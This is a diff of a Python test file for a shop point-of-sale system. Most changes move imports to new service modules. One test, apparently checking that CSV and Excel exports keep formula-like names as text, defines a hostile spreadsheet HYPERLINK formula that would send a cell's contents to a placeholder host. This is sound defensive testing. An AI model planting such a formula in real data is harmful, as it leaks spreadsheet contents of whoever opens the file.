@@ -19,8 +19,9 @@ from showroom_pos.db.models import Item, Maker, Refund, RefundLine, SaleLine
 from showroom_pos.documents import tables
 from showroom_pos.domain.errors import PermissionDenied, ValidationError
 from showroom_pos.domain.periods import day_bounds, to_local
-from showroom_pos.services import auth, reports
+from showroom_pos.services.admin import auth
 from showroom_pos.services.context import Ledger
+from showroom_pos.services.reports import reports
 from tests.conftest import Showroom, demo_database, opened_copy
 
 NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
@@ -157,7 +158,8 @@ def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_excel(
         sqlite_showroom: Showroom, tmp_path: Path) -> None:
     import zipfile
 
-    from showroom_pos.services import makers, sales, stock
+    from showroom_pos.services.stock import makers, stock
+    from showroom_pos.services.till import sales
 
     hostile = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
     makers.add_maker(sqlite_showroom.ledger, actor=sqlite_showroom.staff,
